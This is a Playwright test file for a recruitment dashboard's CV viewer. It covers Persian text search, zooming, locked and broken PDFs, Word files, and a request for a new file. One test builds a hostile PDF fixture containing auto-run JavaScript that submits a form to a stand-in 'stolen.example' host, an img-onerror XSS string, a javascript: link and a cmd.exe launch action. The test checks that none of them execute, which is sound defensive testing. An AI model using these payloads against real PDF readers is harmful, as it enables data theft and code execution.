import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { messageTemplates } from '@kargozin/api/messages/message-templates.ts'
import { organizations } from '@kargozin/api/organisation/organization.ts'
import { applicantProfile } from '@kargozin/api/recruitment/applicants/applicant-profile.ts'
import { typed } from '../words.ts'
import { start } from './start.ts'
import { expect, test as base } from './test.ts'

const corpus = new URL('../../cv-reader/corpus/', import.meta.url)

const address = (query: Record<string, string>) => `/dashboard/cv?${new URLSearchParams(query)}`

/** A PDF with these objects but without a cross-reference table. Careless or hostile programs write such files. */
const rawPdf = (objects: readonly string[], trailer = '') =>
  Buffer.from(
    `%PDF-1.7\n${objects.map((it, at) => `${at + 1} 0 obj\n${it}\nendobj\n`).join('')}trailer << /Root 1 0 R /Size ${objects.length + 1} ${trailer} >>\n%%EOF\n`,
    'latin1',
  )

const script = '/S /JavaScript /JS (app.alert\\("here"\\); this.submitForm\\("http://stolen.example/stolen"\\))'
const words = 'BT /F1 14 Tf 60 760 Td (Kian <img src=/stolen onerror=alert\\(1\\)> Rostami) Tj ET'

/**
 * A PDF with scripts that run when it is opened and when a page is shown, a form, a link to a script, and a link that
 * starts a program.
 */
const hostile = rawPdf([
  `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >> /AcroForm << /Fields [6 0 R] /XFA (x) >> >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O << ${script} >> >> /Annots [6 0 R 7 0 R 8 0 R] >>`,
  `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (Rejected) /Rect [60 600 300 640] /AA << /Fo << ${script} >> >> >>`,
  '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert(1)) >> >>',
  '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) >> >>',
])

const locked = rawPdf(
  ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'],
  `/ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`,
)

/** Opens the page with the CV reader. Requests for CV files are answered with these files. */
const test = base.extend<{ kit: (files: Record<string, Buffer>) => Promise<Page> }>({
  kit: async ({ open }, use) =>
    use(async files => {
      const page = await open('kit', '/dashboard/cv')
      await page.route('**/files/*', route => {
        const body = files[new URL(route.request().url()).pathname.replace('/files/', '')]
        return body ? route.fulfill({ body, contentType: 'application/pdf' }) : route.fulfill({ status: 404 })
      })
      return page
    }),
})

const marked = (page: Page) => page.locator('[data-hit]')

test('a Persian CV is drawn, and its text can be selected and found in any spelling', async ({ kit, say, lang }) => {
  const page = await kit({ 'cv.pdf': readFileSync(new URL('01-e1-skia-full.pdf', corpus)) })
  await page.goto(address({ file: 'cv.pdf', find: 'كارشناس' }))
  await expect(page.locator('[data-page] canvas')).toHaveCount(1)
  await expect(
    page.getByText(say('{place} of {total}', { place: typed(lang, '1'), total: typed(lang, '2') })),
  ).toBeVisible()
  await expect(marked(page)).toHaveCount(2)
  const active = page.locator('[data-hit=active]')
  await expect(active).toBeInViewport()
  /** The number of the current match, from 0. */
  const current = () => marked(page).evaluateAll(all => all.findIndex(it => it.getAttribute('data-hit') === 'active'))
  expect(await current()).toBe(0)
  const field = page.getByRole('searchbox', { name: say('Search in the CV') })
  await field.press('Enter')
  await expect(
    page.getByText(say('{place} of {total}', { place: typed(lang, '2'), total: typed(lang, '2') })),
  ).toBeVisible()
  await expect.poll(current).toBe(1)
  await expect(active).toBeInViewport()
  await field.fill('چیزی که نیست')
  await expect(page.getByText(say('Nothing found'))).toBeVisible()
  await expect(marked(page)).toHaveCount(0)
  await page.keyboard.press('Escape')

  const wide = () => page.locator('[data-page] canvas').evaluate(it => it.clientWidth)
  const fitting = await wide()
  await page.getByRole('button', { name: say('Larger') }).click()
  await expect.poll(wide).toBeGreaterThan(fitting)

  await page.locator('.pdf-text').evaluate(it => getSelection()?.selectAllChildren(it))
  expect(await page.evaluate(() => getSelection()?.toString())).toContain('افسانه رنجبران')

  const spot = page.getByRole('button', { name: say('{name} was found here', { name: say('Name') }) })
  await spot.click()
  await expect(spot).toHaveAttribute('aria-pressed', 'true')
})

test('no script of a hostile PDF runs, and HTML in its text is shown as text', async ({ kit, context, baseURL }) => {
  const page = await kit({ 'cv.pdf': hostile })
  const requests: string[] = []
  page.on('dialog', dialog => requests.push(dialog.message()))
  context.on('request', request => requests.push(request.url()))
  await page.goto(address({ file: 'cv.pdf', find: 'rostami' }))
  await expect(marked(page)).toHaveCount(1)
  await page.mouse.click(300, 300)
  expect(requests.filter(it => !it.startsWith(`${baseURL}/`) || it.includes('stolen'))).toEqual([])
  await expect(page.locator('.pdf-text')).toContainText('<img src=/stolen')
  await expect(page.getByRole('region').locator('img, a, input, iframe, form')).toHaveCount(0)
})

test('a PDF that cannot be drawn shows its text, or advice if it has no text', async ({ kit, say, answer }) => {
  const page = await kit({ 'locked.pdf': locked, 'broken.pdf': Buffer.from('%PDF-1.7 and nothing else') })
  answer(applicantProfile.cvText, () => ({ data: { text: null } }))
  await page.goto(address({ file: 'locked.pdf' }))
  const password =
    'This PDF has a password. Download it and open it with the password, or ask the applicant for another file.'
  await expect(page.getByText(say(password))).toBeVisible()
  const download = page.getByRole('region').getByRole('link', { name: say('Download') })
  await expect(download).toHaveAttribute('href', '/files/locked.pdf?signed&download')
  answer(applicantProfile.cvText, () => ({ data: { text: 'Kian Rostami\nSQL' } }))
  await page.goto(address({ file: 'broken.pdf', find: 'sql' }))
  const broken = 'The pages of this PDF cannot be displayed. Download it, or ask the applicant for another file.'
  await expect(page.getByText(say(broken))).toBeVisible()
  await expect(marked(page)).toHaveText('SQL')
})

test('a Word file is shown as lines of text, with the search results marked', async ({ kit, say, answer }) => {
  const page = await kit({})
  const text = 'حسابدار ارشد\n<b>Excel</b> and SQL\nحسابدار در سپهر'
  answer(applicantProfile.cvText, () => ({ data: { text } }))
  await page.goto(address({ file: 'cv.docx', type: 'application/msword', find: 'حسابدار' }))
  await expect(page.getByRole('article').locator('p')).toHaveText(text.split('\n'))
  await expect(marked(page)).toHaveText(['حسابدار', 'حسابدار'])
  await page.getByRole('searchbox', { name: say('Search in the CV') }).fill('sql')
  await expect(marked(page)).toHaveText(['SQL'])
})

test('beside a locked CV, a written message asks for another file', async ({ kit, say, answer }) => {
  const page = await kit({ 'scan.pdf': locked })
  answer(organizations.show, () => ({ data: { ...start, sends: { email: true, sms: true } } }))
  answer(applicantProfile.cvText, () => ({ data: { text: null } }))
  answer(messageTemplates.list, () => ({ data: { templates: [] } }))
  await page.goto('/dashboard/cv-side')
  await expect(page.getByText('این فایل متن ندارد.')).toBeVisible()
  await page.getByRole('button', { name: say('Ask for another file') }).press('Enter')
  const message = page.getByRole('dialog', { name: say('Message to {name}', { name: 'کیان رستمی' }) })
  await expect(message.getByRole('textbox', { name: say('Subject|of an e-mail') })).toHaveText(
    say('The file of your CV'),
  )
  const text =
    'Hello {name},\nthe file of your CV cannot be read. Please answer this message with your CV as a PDF or Word file whose text can be selected, not as a picture or scan.'
  const lines = say(text, { name: 'کیان رستمی' }).split('\n')
  await expect(message.getByRole('textbox', { name: say('Text of the message') }).locator('p')).toHaveText(lines)
  await expect(message.getByRole('button', { name: say('Send'), exact: true })).toBeEnabled()
})
